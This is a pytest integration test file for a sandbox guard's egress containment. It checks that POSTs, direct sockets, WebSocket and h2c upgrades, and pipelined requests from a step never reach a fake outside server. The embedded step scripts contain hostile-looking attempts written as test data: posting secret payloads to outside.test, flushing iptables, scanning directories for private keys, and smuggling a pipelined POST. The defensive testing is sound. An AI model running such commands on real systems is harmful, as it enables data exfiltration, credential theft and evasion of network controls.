"""Egress containment against the real engine and a fake outside server in its own container."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path

import pytest
from docker import DockerClient

from sandbox.contracts.record import RunStatus
from sandbox.guard.egress.dns import SYNTHETIC_V4 as SYNTHETIC
from sandbox.guard.egress.transparent import FIRST_READ_S
from sandbox.policy import stub_reply
from sandbox.run.testrun import RunOptions, TestRun
from tests.conftest import WorkflowFactory, call_lines
from tests.fakes.harness import ALIAS, Outside, outside_server
from tests.polling import wait_for
from tests.scenarios.egressparts import (
    EGRESS_TOML,
    THROUGH_PROXY,
    assert_proxy_step_answers,
    run_step,
)

pytestmark = pytest.mark.engine


@pytest.fixture
def outside(engine: DockerClient) -> Iterator[Outside]:
    with outside_server(engine) as server:
        yield server


def test_proxy_passes_reads_and_stubs_everything_else(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    record, out, lines = run_step(make_workflow, outside, THROUGH_PROXY, EGRESS_TOML)
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert_proxy_step_answers(out)

    seen = outside.seen()
    http_seen = [(s["method"], s["path"]) for s in seen if s["proto"] == "http"]
    assert http_seen == [("GET", "/page"), ("HEAD", "/page")]  # nothing with an effect arrived
    assert [s["proto"] for s in seen if s["proto"] == "tcp"] == ["tcp"]  # the allowed CONNECT

    egress = [ln for ln in lines if ln.tool == "http"]
    by_method = {
        ln.arguments["method"]: ln
        for ln in egress
        if ln.arguments.get("url", "").endswith("/effect")
    }
    post = by_method["POST"]
    assert post.decision == "stub"
    assert post.arguments["body_bytes"] == len(b"secret-payload-123")
    assert post.arguments["body_sha256"] == hashlib.sha256(b"secret-payload-123").hexdigest()
    assert (
        "secret-payload-123"
        not in (
            Path(record.workflow_dir) / "runs" / record.id / "test_mode_actions.jsonl"
        ).read_text()
    )
    connect = next(
        ln for ln in egress if ln.arguments["method"] == "CONNECT" and ln.decision == "allow"
    )
    assert connect.detail["tls"] == "method not seen"  # the host opted out of inspection
    assert "method inside TLS was not seen" in connect.reason
    counts = record.egress[ALIAS]
    # Stubbed: 4 methods, a port not on the list and a WebSocket (the entry does not
    # opt in); refused: a CONNECT to a plain-HTTP port, which cannot be inspected.
    assert (counts.passed, counts.stubbed, counts.refused) == (3, 6, 1)
    assert record.egress["not-allowed.test"].stubbed == 1
    refusals = [ln for ln in egress if ln.decision == "refuse"]
    assert all("Continue as if" not in ln.reason for ln in refusals)


UPGRADES = """
import json, subprocess
def curl(*headers):
    args = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}"]
    for h in headers:
        args += ["-H", h]
    return subprocess.run(args + ["http://outside.test:8080/ws?room=7"],
        capture_output=True, text=True).stdout
out = {
    "h2c": curl("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
        "HTTP2-Settings: AAMAAABkAAQAAP__"),
    "websocket": curl("Connection: Upgrade", "Upgrade: websocket",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"),
}
print(json.dumps(out))
"""


def test_h2c_and_websocket_upgrades_to_an_allowed_host_are_recorded_and_never_arrive(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    """An allow-listed host whose entry does not opt in to WebSockets: the h2c upgrade is
    refused, the WebSocket stubbed, both on the record with their URL, and the fake
    outside server receives neither."""
    record, out, lines = run_step(make_workflow, outside, UPGRADES, EGRESS_TOML)
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out == {"h2c": "403", "websocket": "403"}
    assert [s for s in outside.seen() if s["proto"] == "http"] == []
    egress = {ln.detail.get("upgrade"): ln for ln in lines if ln.tool == "http"}
    assert egress["h2c"].decision == "refuse"
    assert egress["websocket"].decision == "stub"
    for line in egress.values():
        assert line.arguments["url"] == "http://outside.test:8080/ws?room=7"
    counts = record.egress[ALIAS]
    assert (counts.passed, counts.stubbed, counts.refused) == (0, 1, 1)


DIRECT = """
import hashlib, json, socket, subprocess, errno, time
out = {}
def attempt(name, fn):
    try:
        out[name] = "OPEN: " + str(fn())
    except OSError as exc:
        out[name] = type(exc).__name__ + ":" + (errno.errorcode.get(exc.errno, "") if exc.errno else "")
def tcp_other(family, host):
    # Not HTTP, not TLS: whoever takes the connection must close it at once.
    started = time.monotonic()
    with socket.create_connection((host, 8080), timeout=10) as s:
        s.sendall(b"step-direct-bytes")
        try:
            got = "closed: %d bytes" % len(s.recv(100))
        except ConnectionResetError:
            got = "closed: reset"
    return {"answer": got, "seconds": round(time.monotonic() - started, 3)}
out["tcp4"] = tcp_other(socket.AF_INET, "OUTSIDE_V4")
attempt("tcp6", lambda: socket.create_connection(("OUTSIDE_V6", 8080), timeout=5))
def udp(family, host):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(b"x" * 10, (host, 9999))
    return "sent"
attempt("udp4", lambda: udp(socket.AF_INET, "OUTSIDE_V4"))
attempt("udp6", lambda: udp(socket.AF_INET6, "OUTSIDE_V6"))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("icmp_dgram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
out["dns"] = sorted({i[4][0] for i in socket.getaddrinfo("outside.test", 8080, socket.AF_INET)})
done = subprocess.run(["curl", "-sS", "--noproxy", "*", "--max-time", "10", "-w", "\\n%{http_code}",
    "http://OUTSIDE_V4:8080/direct"], capture_output=True, text=True)
body, _, code = done.stdout.rpartition("\\n")
out["curl_noproxy"] = [code, body]
out["sha"] = hashlib.sha256(b"step-direct-bytes").hexdigest()
out["iptables"] = subprocess.run(["iptables", "-F"], capture_output=True, text=True).returncode
out["guard_procs"] = sorted({l.split()[0] for l in subprocess.run(["ps", "-eo", "user"],
    capture_output=True, text=True).stdout.split()[1:]})
print(json.dumps(out))
"""


def test_direct_connections_are_answered_by_the_guard_and_reach_nothing(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    """A step that ignores the proxy reaches the guard, never the outside: its direct TCP
    is taken by the guard (judged, recorded with `via: direct`, closed at once when it is
    not HTTP or TLS), its lookups are answered by the guard's DNS, the rest is refused."""
    record, out, lines = run_step(make_workflow, outside, DIRECT, EGRESS_TOML)
    assert record.status is RunStatus.PASSED, record.stderr.text
    # Neither HTTP nor TLS: refused, recorded and closed well before the guard's
    # first-read wait would have run out (it was not left to hang).
    assert out["tcp4"]["answer"] in ("closed: 0 bytes", "closed: reset"), out["tcp4"]
    assert out["tcp4"]["seconds"] < FIRST_READ_S, out["tcp4"]
    other = [ln for ln in lines if ln.tool == "http" and ln.arguments.get("method") == "TCP"]
    assert len(other) == 1 and other[0].decision == "refuse", other
    assert other[0].detail["via"] == "direct"
    assert other[0].detail["destination"] == f"{outside.ipv4}:8080"
    assert other[0].arguments["first_sha256"] == out["sha"]
    assert out["tcp6"] == "ConnectionRefusedError:ECONNREFUSED"
    assert (
        out["udp4"].startswith(("ConnectionRefusedError", "PermissionError"))
        or out["udp4"] == "OPEN: sent"
    )
    # Under gVisor the sentry offers no raw or ICMP sockets at all.
    gvisor = record.walls.step_runtime == "runsc"
    assert out["raw"] in {"PermissionError:EPERM"} | ({"OSError:EAFNOSUPPORT"} if gvisor else set())
    assert out["icmp_dgram"].startswith("PermissionError") or (
        gvisor and out["icmp_dgram"] == "OSError:EAFNOSUPPORT"
    )
    # The guard's DNS answered the lookup with one of its own addresses, and said so.
    assert out["dns"] and all(ip_address(a) in SYNTHETIC for a in out["dns"]), out["dns"]
    lookups = [ln for ln in lines if ln.tool == "dns" and ln.arguments["name"] == ALIAS]
    assert [ln.detail["answer"] for ln in lookups if ln.arguments["type"] == "A"] == out["dns"]
    # curl straight to the server's address: an HTTP request to a host not on the allow
    # list (the address is not the allow-listed name), stubbed by the guard.
    assert out["curl_noproxy"][0] == "403", out["curl_noproxy"]
    assert "not on the egress allow list" in out["curl_noproxy"][1]
    curl = [ln for ln in lines if ln.tool == "http" and ln.arguments.get("method") == "GET"]
    assert [(ln.decision, ln.detail["via"], ln.detail["host"]) for ln in curl] == [
        ("stub", "direct", outside.ipv4)
    ]
    assert out["iptables"] != 0
    assert "guard" not in out["guard_procs"] and "10002" not in out["guard_procs"]
    # Whatever the step sent directly, the outside world saw none of it.
    assert outside.seen() == []
    assert outside.raw() == []
    assert record.duration_s is not None and record.duration_s < 60


def test_empty_allow_list_means_no_egress(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    source = """
    import json, urllib.request, urllib.error
    try:
        urllib.request.urlopen("http://outside.test:8080/page", timeout=10)
        out = "OPEN"
    except urllib.error.HTTPError as exc:
        out = exc.code
    print(json.dumps({"get": out}))
    """
    record, out, lines = run_step(make_workflow, outside, source, "")
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out == {"get": 403}
    assert outside.seen() == []
    assert [ln.decision for ln in lines if ln.tool == "http"] == ["stub"]


INSPECT = """
import json, os, subprocess
def curl(*args):
    done = subprocess.run(["curl", "-s", "-w", "\\n%{http_code}", "--max-time", "10", *args],
                          capture_output=True, text=True)
    body, _, code = done.stdout.rpartition("\\n")
    return [code, body, done.returncode]
out = {
    "get": curl("https://outside.test:8444/page"),
    "post": curl("-X", "POST", "--data", "secret-tls-payload", "https://outside.test:8444/effect"),
    "bundle": os.environ.get("SSL_CERT_FILE"),
}
keys = []
for root in ("/test", "/tmp", "/workflow", "/etc/ssl", "/usr/lib/ssl"):
    for dirpath, _, files in os.walk(root):
        for name in files:
            path = os.path.join(dirpath, name)
            try:
                with open(path, "rb") as handle:
                    if b"PRIVATE" + b" KEY-----" in handle.read(1 << 20):
                        keys.append(path)
            except OSError:
                pass
out["private_keys"] = keys
print(json.dumps(out))
"""


def test_tls_inspection_sees_methods_inside_https(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    toml = """
[egress]
trust_ca_files = ["outside-ca.pem"]
allow = [{ host = "outside.test", port = 8444, tls = true }]
"""
    wf = make_workflow(command=["python3", "/workflow/code/step.py"], extra_toml=toml, db_sql=None)
    (wf / "outside-ca.pem").write_text(outside.ca_pem)
    (wf / "code" / "step.py").write_text(INSPECT)
    record = TestRun(wf, "step1", RunOptions(upstream_networks=(outside.network,))).execute()
    assert record.status is RunStatus.PASSED, record.stderr.text + record.guard_log.text
    out = json.loads(record.stdout.text.strip().splitlines()[-1])
    assert out["get"] == ["200", "hello from outside /page", 0]
    assert out["post"][0] == "403"
    assert out["post"][1].strip() == stub_reply(
        "HTTP POST", "HTTP POST can have effects; only GET and HEAD pass"
    )
    assert out["bundle"] == "/test/ca-bundle.pem"
    # The run's CA key is nowhere in the step's filesystem (the test CA's key never was).
    assert out["private_keys"] == []
    seen = [(s["method"], s["path"]) for s in outside.seen() if s["proto"] == "http"]
    assert seen == [("GET", "/page")]
    lines = call_lines(wf / "runs" / record.id / "test_mode_actions.jsonl")
    post = next(ln for ln in lines if ln.arguments.get("method") == "POST")
    assert post.decision == "stub"
    assert post.arguments["url"] == "https://outside.test:8444/effect"
    assert post.arguments["body_sha256"] == hashlib.sha256(b"secret-tls-payload").hexdigest()
    get = next(ln for ln in lines if ln.arguments.get("method") == "GET")
    assert get.detail["tls"] == "inspected"


def test_egress_line_names_the_tool_call_in_flight(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    source = """
    import json, agentworks_bridge
    reply = agentworks_bridge.call("execute_shell_command", {
        "command": "curl -s -o /dev/null -w '%{http_code}' -X POST --data x http://outside.test:8080/hook"})
    print(json.dumps({"shell": reply["result"]["text"]}))
    """
    record, out, lines = run_step(make_workflow, outside, source, EGRESS_TOML)
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out == {"shell": "403"}
    (egress,) = [ln for ln in lines if ln.tool == "http"]
    assert egress.decision == "stub"
    assert egress.detail["active_tool_calls"] == ["execute_shell_command (session root)"]
    assert outside.seen() == []


PIPELINED = """
import json, socket
out = {}
def exchange(payload):
    with socket.create_connection(("127.0.0.1", 8792), timeout=20) as s:
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return data.decode("latin-1")
head = "Host: outside.test:8081\\r\\n"
out["pipelined"] = exchange(
    ("GET http://outside.test:8081/first HTTP/1.1\\r\\n" + head + "\\r\\n"
     "POST http://outside.test:8081/smuggled HTTP/1.1\\r\\n" + head
     + "Content-Length: 5\\r\\n\\r\\nhello").encode())
out["get_with_body"] = exchange(
    ("GET http://outside.test:8081/with-body HTTP/1.1\\r\\n" + head
     + "Content-Length: 5\\r\\n\\r\\nhello").encode())
print(json.dumps(out))
"""


def test_a_read_forwards_only_its_head_never_a_pipelined_request(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    """After an allowed GET, nothing unjudged reaches the outside: a second, pipelined
    request (a POST) is parsed and judged on its own (stubbed), never relayed to a
    server that keeps reading despite `Connection: close`. A read with a body is stubbed."""
    toml = '[egress]\nallow = [{ host = "outside.test", port = 8081 }]\n'
    record, out, lines = run_step(make_workflow, outside, PIPELINED, toml)
    assert record.status is RunStatus.PASSED, record.stderr.text
    # The GET's reply, then the pipelined POST judged on its own: stubbed.
    assert out["pipelined"].startswith("HTTP/1.1 200")
    _, _, second = out["pipelined"].partition("sloppy")
    assert second.startswith("HTTP/1.1 403") and "X-Agentworks-Test-Mode: stubbed" in second
    assert out["get_with_body"].startswith("HTTP/1.1 403")

    # The sloppy fake records a connection's requests once it closes (the guard's exit).
    def sloppy() -> list[tuple[str, str]]:
        return [(s["method"], s["path"]) for s in outside.seen() if s["proto"] == "sloppy"]

    wait_for(lambda: sloppy() != [], 30, "the sloppy server's record of the connection")
    assert sloppy() == [("GET", "/first")]
    smuggled = next(ln for ln in lines if ln.arguments.get("url", "").endswith("/smuggled"))
    assert smuggled.decision == "stub"
    with_body = next(ln for ln in lines if ln.arguments.get("url", "").endswith("/with-body"))
    assert with_body.decision == "stub" and "body" in with_body.reason


HTTPS_DEFAULT = """
import json, subprocess
def curl(*args):
    done = subprocess.run(["curl", "-s", "-w", "\\n%{http_code}", "--max-time", "10", *args],
                          capture_output=True, text=True)
    body, _, code = done.stdout.rpartition("\\n")
    return [code, body]
print(json.dumps({
    "get": curl("https://outside.test:8444/page"),
    "post": curl("-X", "POST", "--data", "inside-https", "https://outside.test:8444/effect"),
}))
"""


def test_https_to_an_allowed_host_is_inspected_by_default(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    """No inspect setting at all: a POST inside HTTPS is seen and stubbed, not tunnelled."""
    toml = """
[egress]
trust_ca_files = ["outside-ca.pem"]
allow = [{ host = "outside.test", port = 8444, tls = true }]
"""
    wf = make_workflow(command=["python3", "/workflow/code/step.py"], extra_toml=toml, db_sql=None)
    (wf / "outside-ca.pem").write_text(outside.ca_pem)
    (wf / "code" / "step.py").write_text(HTTPS_DEFAULT)
    record = TestRun(wf, "step1", RunOptions(upstream_networks=(outside.network,))).execute()
    assert record.status is RunStatus.PASSED, record.stderr.text + record.guard_log.text
    out = json.loads(record.stdout.text.strip().splitlines()[-1])
    assert out["get"] == ["200", "hello from outside /page"]
    assert out["post"][0] == "403" and "was NOT run" in out["post"][1]
    assert [(s["method"], s["path"]) for s in outside.seen() if s["proto"] == "http"] == [
        ("GET", "/page")
    ]
    assert [s.tool for s in record.stubbed] == ["http"]


def test_a_host_that_opts_out_of_inspection_is_recorded_as_method_not_seen(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    toml = """
[egress]
allow = [{ host = "outside.test", port = 8444, tls = true, inspect = false }]
"""
    source = HTTPS_DEFAULT.replace('"--max-time"', '"-k", "--max-time"')
    record, out, lines = run_step(make_workflow, outside, source, toml)
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out["post"][0] == "200"  # blind: the POST went out, as the workflow chose
    tunnels = [ln for ln in lines if ln.tool == "http"]
    assert len(tunnels) == 2 and all(ln.arguments["method"] == "CONNECT" for ln in tunnels)
    assert all(ln.detail["tls"] == "method not seen" for ln in tunnels)
    assert all("inspect = false" in ln.reason for ln in tunnels)


ERRORS = """
import json, socket
def exchange(payload):
    with socket.create_connection(("127.0.0.1", 8792), timeout=20) as s:
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return data.decode("latin-1")
print(json.dumps({
    "connect_refused": exchange(b"CONNECT outside.test:8080 HTTP/1.1\\r\\nHost: outside.test:8080\\r\\n\\r\\n"),
    "connect_unlisted": exchange(b"CONNECT elsewhere.test:443 HTTP/1.1\\r\\nHost: elsewhere.test:443\\r\\n\\r\\n"),
    "origin_form": exchange(b"GET /x HTTP/1.1\\r\\nHost: outside.test:8080\\r\\n\\r\\n"),
    "version": exchange(b"GET http://outside.test:8080/x HTTP/1.2\\r\\nHost: outside.test:8080\\r\\n\\r\\n"),
    "too_large": exchange(b"GET http://outside.test:8080/x HTTP/1.1\\r\\nX: " + b"a" * 70000 + b"\\r\\n\\r\\n"),
    "stub": exchange(b"DELETE http://outside.test:8080/x HTTP/1.1\\r\\nHost: outside.test:8080\\r\\n\\r\\n"),
}))
"""


def test_error_replies_read_as_errors_and_only_stubs_say_continue(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    record, out, lines = run_step(make_workflow, outside, ERRORS, EGRESS_TOML)
    assert record.status is RunStatus.PASSED, record.stderr.text
    expected = {
        "connect_refused": "403",
        "connect_unlisted": "403",
        "origin_form": "400",
        "version": "505",
        "too_large": "431",
    }
    for name, status in expected.items():
        reply = out[name]
        assert reply.startswith(f"HTTP/1.1 {status} "), (name, reply[:200])
        assert "Connection: close\r\n" in reply
        assert "X-Agentworks-Test-Mode: refused" in reply
        assert "was refused" in reply and "Continue as if it succeeded" not in reply, name
    assert out["stub"].startswith("HTTP/1.1 403 ")
    assert "X-Agentworks-Test-Mode: stubbed" in out["stub"]
    assert out["stub"].endswith(
        stub_reply("HTTP DELETE", "HTTP DELETE can have effects; only GET and HEAD pass") + "\n"
    )
    decisions = [ln.decision for ln in lines if ln.tool == "http"]
    assert decisions == ["refuse"] * 5 + ["stub"]
    assert outside.seen() == []


KEEP_ALIVE = """
import json, httpx, requests
base = "http://outside.test:8080/page-"
failures = {"httpx": [], "requests": []}
with httpx.Client(timeout=20) as client:  # the proxy from HTTPS_PROXY/HTTP_PROXY
    for i in range(N):
        try:
            r = client.get(base + f"h{i}")
            assert r.status_code == 200 and r.text == f"hello from outside /page-h{i}", r.text
        except Exception as exc:
            failures["httpx"].append(f"{i}: {type(exc).__name__}: {exc}")
with requests.Session() as session:
    for i in range(N):
        try:
            r = session.get(base + f"r{i}", timeout=20)
            assert r.status_code == 200 and r.text == f"hello from outside /page-r{i}", r.text
        except Exception as exc:
            failures["requests"].append(f"{i}: {type(exc).__name__}: {exc}")
print(json.dumps({k: v[:5] + [len(v)] for k, v in failures.items()}))
"""


@pytest.mark.timeout(600)
def test_keep_alive_clients_through_the_guard_never_fail(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    """httpx and requests in the step keep their connection to the guard's proxy, the
    proxy keeps its connection to the host (Python's http.server in HTTP/1.1 mode):
    every request is judged and logged on its own, reaches the host exactly once, and
    none fails."""
    n = 1000
    # 2,000 synced requests: the step's bound is generous, since a shared host's load
    # (not the guard) sets how long they take; the test is about none failing.
    record, out, lines = run_step(
        make_workflow,
        outside,
        KEEP_ALIVE.replace("range(N)", f"range({n})"),
        EGRESS_TOML,
        timeout_s=420,
    )
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out == {"httpx": [0], "requests": [0]}
    got = [s["path"] for s in outside.seen() if s["proto"] == "http"]
    assert sorted(got) == sorted(
        [f"/page-h{i}" for i in range(n)] + [f"/page-r{i}" for i in range(n)]
    )  # every request exactly once
    assert [ln.decision for ln in lines if ln.tool == "http"] == ["allow"] * (2 * n)
    # reused on both sides: a few upstream connections, one client connection per client
    upstream_connections = {s["conn"] for s in outside.seen() if s["proto"] == "http"}
    assert len(upstream_connections) <= 4, upstream_connections
    assert len({ln.detail["connection"] for ln in lines if ln.tool == "http"}) == 2
    reused = [ln for ln in lines if ln.tool == "http" and ln.detail.get("upstream_reused")]
    assert len(reused) >= 2 * n - 4
